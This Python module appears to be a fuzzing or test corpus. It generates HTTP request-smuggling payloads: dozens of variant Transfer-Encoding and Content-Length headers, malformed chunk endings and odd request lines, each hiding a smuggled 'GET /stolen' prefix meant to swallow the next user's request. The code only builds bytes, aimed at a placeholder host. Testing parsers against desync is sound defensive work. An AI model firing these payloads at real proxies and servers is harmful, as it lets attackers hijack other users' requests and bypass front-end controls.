"""Requests that were made to be read in two ways: by a proxy in one, by the server behind it in another.

Each hides the beginning of a second request, which the next client's would
complete. The shapes are those of the advisories since 2005 and of the research
on "HTTP desync"; each is built with the spellings that some server fell for.
"""

from collections.abc import Iterator

#: What the attacker wants to stand before somebody else's request. The open field swallows its request line.
STOLEN = b"GET /stolen HTTP/1.1\r\nHost: test\r\nX-Swallow: "

#: Spellings of one field that some readers take for `Transfer-Encoding: chunked`, and others do not.
CODINGS = (
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding:\x0cchunked",
    b"Transfer-Encoding: \x00chunked",
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding: chunked\x85",
    b"Transfer-Encoding:\xa0chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunked-false",
    b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: CHUNKED",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: \r\n\tchunked",
    b"Transfer-Encoding\r\n : chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\n\rTransfer-Encoding: chunked",
    b"X:X\x00\r\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer.Encoding: chunked",
    b"\x00Transfer-Encoding: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Content-Encoding: chunked",
)

#: Lengths of which one reader takes 6 or more, and another something else.
LENGTHS = (
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: 0, %d",
    b"Content-Length: %d, 0",
    b"Content-Length: +%d",
    b"Content-Length: -%d",
    b"Content-Length: %d.0",
    b"Content-Length: 0%d",
    b"Content-Length: 0x%x",
    b"Content-Length: %d_0",
    b"Content-Length: %d a",
    b"Content-Length: %d\x0b",
    b"Content-Length: \x00%d",
    b'Content-Length: "%d"',
    b"Content-Length : %d",
    b"Content-Length\x00: %d",
    b"Content_Length: %d",
    b"X: y\nContent-Length: %d",
    b"X: y\rContent-Length: %d",
    b"Content-Length:\r\n %d",
    b"Connection: Content-Length\r\nContent-Length: %d",
    b"Expect: 100-continue\r\nContent-Length: %d",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: %d",
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: %d",
)

#: Chunked content that ends in one place for some readers, and in another for others.
CHUNKS = (
    b"0\r\n\r\n",
    b"0\n\n",
    b"0\r\n\n",
    b"0\r\r\n\r\n",
    b"0 \r\n\r\n",
    b"0;\r\n\r\n",
    b"0;a\n\r\n\r\n",
    b'0;a="\r\n\r\n',
    b"0;a=\rb\r\n\r\n",
    b"00000000000000000\r\n\r\n",
    b"-0\r\n\r\n",
    b"0x0\r\n\r\n",
    b"0_0\r\n\r\n",
    b"1\r\nx\r\n0\r\n\r\n",
    b"1\r\nxx\r\n0\r\n\r\n",
    b"1\r\nx0\r\n\r\n",
    b"1\nx\n0\n\n",
    b"1;a\nx\r\n0\r\n\r\n",
    b"100000000\r\nx\r\n0\r\n\r\n",
    b"10000000000000001\r\nx\r\n0\r\n\r\n",
    b"FFFFFFFFFFFFFFFF\r\nx\r\n0\r\n\r\n",
    b"0\r\nX: y\r\n\r\n",
    b"0\r\nContent-Length: 40\r\n\r\n",
    b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"0\r\n: x\r\n\r\n",
    b"0\r\nX y\r\n\r\n",
    b"0\r\nX: y\n\r\n",
    b"0\r\nX: y\r\n folded\r\n\r\n",
)

LINES = (b"POST /read HTTP/1.1", b"POST /unread HTTP/1.1", b"GET /read HTTP/1.1")


def make_attempts() -> Iterator[bytes]:
    """Yield every attempt: what one attacker sends on one connection."""
    yield from attempts_with_codings()
    yield from attempts_with_lengths()
    yield from attempts_with_chunks()
    yield from attempts_with_lines()


def attempts_with_codings() -> Iterator[bytes]:
    """The proxy believes Content-Length and the server Transfer-Encoding, or the other way round, or one of them alone."""
    chunks = b"%x\r\n%b\r\n0\r\n\r\n" % (len(STOLEN), STOLEN)
    for number, coding in enumerate(CODINGS):
        line = LINES[number % len(LINES)]
        yield request(line, b"0\r\n\r\n" + STOLEN, coding, b"Content-Length: %d" % (5 + len(STOLEN)))
        yield request(line, chunks, b"Content-Length: %d" % (chunks.index(b"\n") + 1), coding)
        yield request(line, b"0\r\n\r\n" + STOLEN, coding)


def attempts_with_lengths() -> Iterator[bytes]:
    for number, length in enumerate(LENGTHS):
        for line in (LINES[number % 2], LINES[2]):
            yield request(line, STOLEN, length.replace(b"%x", b"%d") % len(STOLEN))


def attempts_with_chunks() -> Iterator[bytes]:
    for number, chunks in enumerate(CHUNKS):
        yield request(LINES[number % 2], chunks + STOLEN, b"Transfer-Encoding: chunked")


def attempts_with_lines() -> Iterator[bytes]:
    """The version, the method or the target makes readers differ on whether there is content at all."""
    length = b"Content-Length: %d" % len(STOLEN)
    for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"TRACE", b"CONNECT", b"post", b"PO ST", b"PRI"):
        yield request(method + b" /unread HTTP/1.1", STOLEN, length)
    for version in (b"HTTP/1.0", b"HTTP/0.9", b"HTTP/1.2", b"HTTP/2.0", b"HTTP/01.1", b"http/1.1", b"HTTP/1.1 ", b""):
        yield request(b"POST /unread " + version, b"0\r\n\r\n" + STOLEN, b"Transfer-Encoding: chunked", b"Connection: keep-alive")
    for target in (b"http://other/unread", b"*", b"/\x0bunread", b"/unread\tx", b"/unread#x", b"//unread", b"/un read"):
        yield request(b"POST " + target + b" HTTP/1.1", STOLEN, length)


def request(line: bytes, content: bytes, *fields: bytes) -> bytes:
    return b"\r\n".join([line, b"Host: test", *fields, b"", content])
